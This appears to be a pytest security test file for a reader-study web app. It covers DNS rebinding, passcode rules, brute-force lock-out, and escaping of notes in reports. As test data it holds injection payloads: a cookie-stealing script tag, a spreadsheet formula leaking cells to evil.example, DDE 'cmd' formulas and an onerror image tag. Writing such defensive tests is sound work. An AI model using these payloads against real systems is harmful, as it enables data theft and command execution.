"""Reader-study security: DNS rebinding (foreign Host / Origin), owner-created readers, passcode
length and brute-force lock-out, formula and HTML injection through notes, and a vote past the
last image refused before anything is stored."""

from __future__ import annotations

import csv
import re
import sqlite3
from pathlib import Path

import httpx
import pandas as pd
import pytest

from synthmed.reader_study import db
from synthmed.reader_study.cli import main
from synthmed.reader_study.create import create_study
from synthmed.reader_study.demo import make_demo_trees
from synthmed.reader_study.hosts import allowed_host_names
from synthmed.reader_study.throttle import LoginThrottle
from reader_study_helpers import add_readers, client_for, free_port, start_server

PASS = "abcd1234"


@pytest.fixture()
def study(tmp_path) -> Path:
    real, fake = make_demo_trees(tmp_path / "trees", per_class=3)
    study = create_study(real, fake, tmp_path / "study.sqlite", size=32, seed=0)
    add_readers(study, "x1", "x2", passcode=PASS)
    return study


def _public_ids(study: Path) -> list[str]:
    with sqlite3.connect(study) as conn:
        return [r[0] for r in conn.execute("SELECT public_id FROM images ORDER BY id")]


def _login(client, reader="x1", passcode=PASS, **kw):
    return client.post("/login", data={"reader_id": reader, "passcode": passcode},
                       follow_redirects=False, **kw)


def _rows(study: Path, table: str) -> int:
    with sqlite3.connect(study) as conn:
        return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


# ------------------------------------------------------------------ 1: DNS rebinding


REBOUND = {"host": "attacker.example:8799", "origin": "http://attacker.example:8799"}


def test_foreign_host_gets_400_no_cookie_and_no_image(study):
    client = client_for(study)
    # the reproduction: Host and Origin both name the attacker's (re-pointed) domain
    answer = _login(client, headers=REBOUND)
    assert answer.status_code == 400 and "set-cookie" not in answer.headers
    assert not client.cookies and _rows(study, "sessions") == 0
    for path in ("/", "/study", "/study/1", "/healthz", "/static/study.js"):
        assert client.get(path, headers={"host": "attacker.example:8799"}).status_code == 400
    # even with a valid session cookie, nothing is served under a foreign name
    assert _login(client).status_code == 303 and client.cookies.get("rs_session")
    public_id = _public_ids(study)[0]
    assert client.get(f"/img/{public_id}").status_code == 200
    stolen = client.get(f"/img/{public_id}", headers={"host": "attacker.example:8799"})
    assert stolen.status_code == 400 and not stolen.content.startswith(b"\x89PNG")
    # the loopback names of a server bound to 127.0.0.1 are all accepted
    for host in ("127.0.0.1:8765", "localhost:8765", "[::1]:8765", "LOCALHOST:8765"):
        assert client.get("/healthz", headers={"host": host}).status_code == 200, host


def test_origin_is_checked_against_the_allowed_names_and_port(study):
    client = client_for(study)
    refused = ["http://attacker.example:8765", "http://localhost:3000", "null",
               "http://127.0.0.1.attacker.example:8765", "file://", "http://[::2]:8765"]
    for origin in refused:
        answer = _login(client, headers={"origin": origin})
        assert answer.status_code == 403 and "set-cookie" not in answer.headers, origin
    assert _rows(study, "sessions") == 0
    for origin in ("http://127.0.0.1:8765", "http://localhost:8765", "http://[::1]:8765"):
        assert _login(client, headers={"origin": origin}).status_code == 303, origin


def test_allowed_hosts_follow_the_bind_address():
    assert allowed_host_names("127.0.0.1") == ["127.0.0.1", "localhost", "[::1]"]
    assert allowed_host_names("::1") == ["127.0.0.1", "localhost", "[::1]"]
    assert allowed_host_names("192.168.1.20") == ["192.168.1.20"]
    assert allowed_host_names("192.168.1.20", ["study.lab.example:443"]) == [
        "192.168.1.20", "study.lab.example"]
    with pytest.raises(ValueError, match="--allowed-host"):
        allowed_host_names("0.0.0.0")
    assert "ws.lab" in allowed_host_names("0.0.0.0", ["ws.lab"])
    with pytest.raises(ValueError, match="not a host name"):
        allowed_host_names("127.0.0.1", ["*.example"])


def test_extra_allowed_host_is_answered_and_others_are_not(study):
    client = client_for(study, host="192.168.1.20", allowed_hosts=["ws.lab:443"])
    assert client.get("/", headers={"host": "ws.lab"}).status_code == 200
    assert client.get("/", headers={"host": "192.168.1.20:8765"}).status_code == 200
    assert client.get("/", headers={"host": "127.0.0.1:8765"}).status_code == 400
    assert _login(client, headers={"host": "ws.lab", "origin": "https://ws.lab"}
                  ).status_code == 303


def test_real_server_refuses_the_rebinding_curl(study, tmp_path):
    port = free_port()
    proc = start_server(study, port)
    try:
        base = f"http://127.0.0.1:{port}"
        answer = httpx.post(f"{base}/login", data={"reader_id": "x1", "passcode": PASS},
                            headers={"host": f"attacker.example:{port}",
                                     "origin": f"http://attacker.example:{port}"})
        assert answer.status_code == 400 and "set-cookie" not in answer.headers
        own = httpx.post(f"{base}/login", data={"reader_id": "x1", "passcode": PASS})
        cookie = own.cookies.get("rs_session")
        assert own.status_code == 303 and cookie
        image = f"{base}/img/{_public_ids(study)[0]}"
        assert httpx.get(image, cookies={"rs_session": cookie}).status_code == 200
        assert httpx.get(image, cookies={"rs_session": cookie},
                         headers={"host": f"attacker.example:{port}"}).status_code == 400
        # --host 0.0.0.0 without --allowed-host is refused with a message
        assert main(["serve", str(study), "--host", "0.0.0.0", "--port", str(port)]) == 2
    finally:
        proc.terminate()
        proc.wait(timeout=10)


# ------------------------------------------------------------------ 1/3: readers and passcodes


def test_owner_creates_readers_with_generated_passcodes(tmp_path, capsys):
    real, fake = make_demo_trees(tmp_path / "trees", per_class=2)
    out = tmp_path / "s.sqlite"
    for bad in ("dr.a,dr.a", "dr.a,../x"):  # refused before the study file is built
        assert main(["create", "--real", str(real), "--fake", str(fake), "--size", "32",
                     "--readers", bad, "--out", str(out)]) == 2
        assert not out.exists()
    assert main(["create", "--real", str(real), "--fake", str(fake), "--size", "32",
                 "--readers", "dr.a,dr.b", "--out", str(out)]) == 0
    printed = dict(re.findall(r"reader (\S+)\s+passcode (\S+)", capsys.readouterr().out))
    assert sorted(printed) == ["dr.a", "dr.b"]
    assert all(len(code) >= 12 for code in printed.values())
    assert len(set(printed.values())) == 2
    with sqlite3.connect(out) as conn:  # stored as salted hashes only
        blob = b"".join(bytes(r[0]) + bytes(r[1]) for r in conn.execute(
            "SELECT pass_salt, pass_hash FROM readers"))
    assert all(code.encode() not in blob for code in printed.values())
    assert main(["add-readers", str(out), "--readers", "dr.c"]) == 0
    printed.update(re.findall(r"reader (\S+)\s+passcode (\S+)", capsys.readouterr().out))
    assert main(["add-readers", str(out), "--readers", "dr.c"]) == 2
    assert "exists already" in capsys.readouterr().err
    assert main(["add-readers", str(out), "--readers", "ok,../bad"]) == 2
    assert _rows(out, "readers") == 3

    client = client_for(out)
    for reader, code in printed.items():
        assert _login(client, reader, code).status_code == 303, reader
    # no self-registration by default: an unknown id is refused and not created
    answer = _login(client, "intruder", "abcd1234efgh")
    assert answer.status_code == 403 and "Unknown reader ID or wrong passcode" in answer.text
    assert _rows(out, "readers") == 3
    assert "organiser gave you" in client_for(out).get("/").text


def test_passcodes_need_at_least_8_characters(study):
    with db.connection(study) as conn:
        with pytest.raises(ValueError, match="8 to 128"):
            db.add_reader(conn, "short", "1234567")
        db.add_reader(conn, "long_enough", "12345678")
    opened = client_for(study, open_registration=True)
    assert 'minlength="8"' in opened.get("/").text
    assert _login(opened, "newbie", "1234").status_code == 400
    assert not opened.cookies and _rows(study, "readers") == 3
    assert _login(opened, "newbie", "12345678").status_code == 303
    assert _rows(study, "readers") == 4


# ------------------------------------------------------------------ 3: brute force


class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_wrong_passcodes_lock_the_reader_out_for_a_growing_delay(study):
    clock = Clock()
    client = client_for(study, throttle=LoginThrottle(clock=clock))
    for _ in range(5):
        assert _login(client, passcode="wrong-pass").status_code == 403
    locked = _login(client)  # even the right passcode, while locked
    assert locked.status_code == 429 and locked.headers["retry-after"] == "15"
    assert "Too many failed sign-ins" in locked.text and not client.cookies
    clock.now += 16
    assert _login(client).status_code == 303  # the lock ran out; success forgives x1
    client.cookies.clear()
    for _ in range(5):
        _login(client, passcode="wrong-pass")
    clock.now += 16
    assert _login(client, passcode="wrong-pass").status_code == 403  # the 6th failure ...
    assert _login(client).headers["retry-after"] == "30"             # ... doubles the lock
    # x2 is refused too: this client has now failed 11 times (limit 10 per client address)
    assert _login(client, "x2").status_code == 429


def test_one_client_guessing_many_readers_is_locked_out(study):
    clock = Clock()
    client = client_for(study, throttle=LoginThrottle(clock=clock))
    for i in range(10):  # a different (unknown) reader id each time
        assert _login(client, f"guess{i}", "wrong-pass").status_code == 403
    answer = _login(client, "x2")
    assert answer.status_code == 429 and int(answer.headers["retry-after"]) == 15
    other_client = client_for(study, throttle=LoginThrottle(clock=clock))
    assert _login(other_client, "x2").status_code == 303


def test_fifty_guesses_are_mostly_refused_unchecked(study):
    client = client_for(study)  # the default throttle, real clock
    codes = [_login(client, passcode=f"guess{i:04d}").status_code for i in range(50)]
    assert codes[:5] == [403] * 5 and set(codes[5:]) == {429}


# ------------------------------------------------------------------ 4: injection into reports


NOTES = {
    "script": "<script>alert(document.cookie)</script>",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "image": "![pixel](http://tracker.example/p.png) [link](javascript:alert(1))",
}


def test_notes_cannot_inject_html_markdown_or_formulas(study, tmp_path):
    with db.connection(study) as conn:
        for image_id, note in zip(range(1, 8), NOTES.values()):
            db.cast_vote(conn, "x1", image_id, "real", note)
    out = tmp_path / "report"
    assert main(["report", str(study), "--out", str(out)]) == 0
    text = (out / "reader_study_report.md").read_text()
    assert "<script" not in text and "&lt;script&gt;" in text
    assert "![pixel](" not in text and "[link](" not in text
    markdown = pytest.importorskip("markdown")  # what a viewer renders: text, no elements

    rendered = markdown.markdown(text, extensions=["tables"])
    assert "<script" not in rendered and "<a " not in rendered
    assert set(re.findall(r'<img[^>]* src="([^"]*)"', rendered)) <= {
        "answers_by_reader.png", "taken_for_real.png"}
    for name in ("notes.csv", "votes.csv"):
        cells = pd.read_csv(out / name, keep_default_na=False)["note"].tolist()
        for note in NOTES.values():
            expected = "'" + note if note[0] in "=+-@\t" else note
            assert expected in cells, (name, note)
        with open(out / name, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_hostile_class_folder_name_is_escaped_in_the_report(tmp_path):
    name = "CT<img src=x onerror=alert(1)>"
    real, fake = make_demo_trees(tmp_path / "trees", per_class=2, classes=(name,))
    study = create_study(real, fake, tmp_path / "s.sqlite", size=32)
    add_readers(study, "x1")
    with db.connection(study) as conn:
        db.cast_vote(conn, "x1", 1, "fake", "")
    assert main(["report", str(study), "--out", str(tmp_path / "rep")]) == 0
    text = (tmp_path / "rep" / "reader_study_report.md").read_text()
    assert "<img src=x" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text


# ------------------------------------------------------------------ 15: position past the end


def test_vote_past_the_last_position_is_refused_and_not_stored(study):
    client = client_for(study)
    html = client.post("/login", data={"reader_id": "x1", "passcode": PASS}).text
    image = re.search(r'name="image" value="([^"]*)"', html).group(1)
    total = len(_public_ids(study))
    for position in (str(total + 1), "999999", "0"):
        answer = client.post("/vote", data={"reader_id": "x1", "image": image,
                                            "position": position, "vote": "fake", "note": ""})
        assert answer.status_code == 400, position
        assert "not saved" in answer.text
    assert _rows(study, "votes") == 0 and _rows(study, "vote_history") == 0
    last = client.post("/vote", data={"reader_id": "x1", "image": image,
                                      "position": str(total), "vote": "fake", "note": ""})
    assert last.status_code == 200 and _rows(study, "votes") == 1


def test_public_ids_never_look_like_formulas(monkeypatch):
    from synthmed.reader_study import create

    drawn = iter(["-" + "a" * 23, "_" + "b" * 23, "C" * 24])
    monkeypatch.setattr(create.secrets, "token_urlsafe", lambda n: next(drawn))
    assert create.new_public_id() == "C" * 24
